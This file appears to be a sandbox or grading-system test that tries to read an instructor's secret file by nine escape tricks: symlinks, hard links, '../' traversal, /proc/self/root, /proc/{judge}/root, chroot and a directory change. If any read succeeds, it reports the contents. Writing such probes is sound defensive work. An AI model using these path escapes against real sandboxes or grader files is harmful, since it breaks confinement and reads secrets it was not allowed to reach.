# attack: secret_by_links
# kind: read
# tries: reaches a file of the instructor's by links, other roots, other mounts and other working folders
# seen: an exception that holds what was read
# deserves: nothing
# extra: before 3.2a
# %%
import os
from pathlib import Path

path, home = r"{secret}", os.getcwd()

def from_there():
    os.chdir(os.path.dirname(path))
    return Path(os.path.basename(path)).read_text()

def through(make, *arguments):
    make(*arguments)
    return Path('link').read_text()

ways = [
    lambda: through(os.symlink, path, 'link'),
    lambda: through(os.link, path, 'link'),
    lambda: os.symlink(os.path.dirname(path), 'folder') or Path('folder', os.path.basename(path)).read_text(),
    # a wall that compares paths as text does not know these
    lambda: Path('../' * 30 + path).read_text(),
    lambda: Path('/proc/self/root' + path).read_text(),
    lambda: Path('/proc/self/cwd/' + '../' * 30 + path).read_text(),
    lambda: Path('/proc/{judge}/root' + path).read_text(),
    lambda: os.chroot('/') or Path(path).read_text(),
    from_there,
]
for way in ways:
    try:
        found = way()
    except Exception:
        found = None
    os.chdir(home)
    if found:
        raise RuntimeError(f"FELL: read {found!r}")
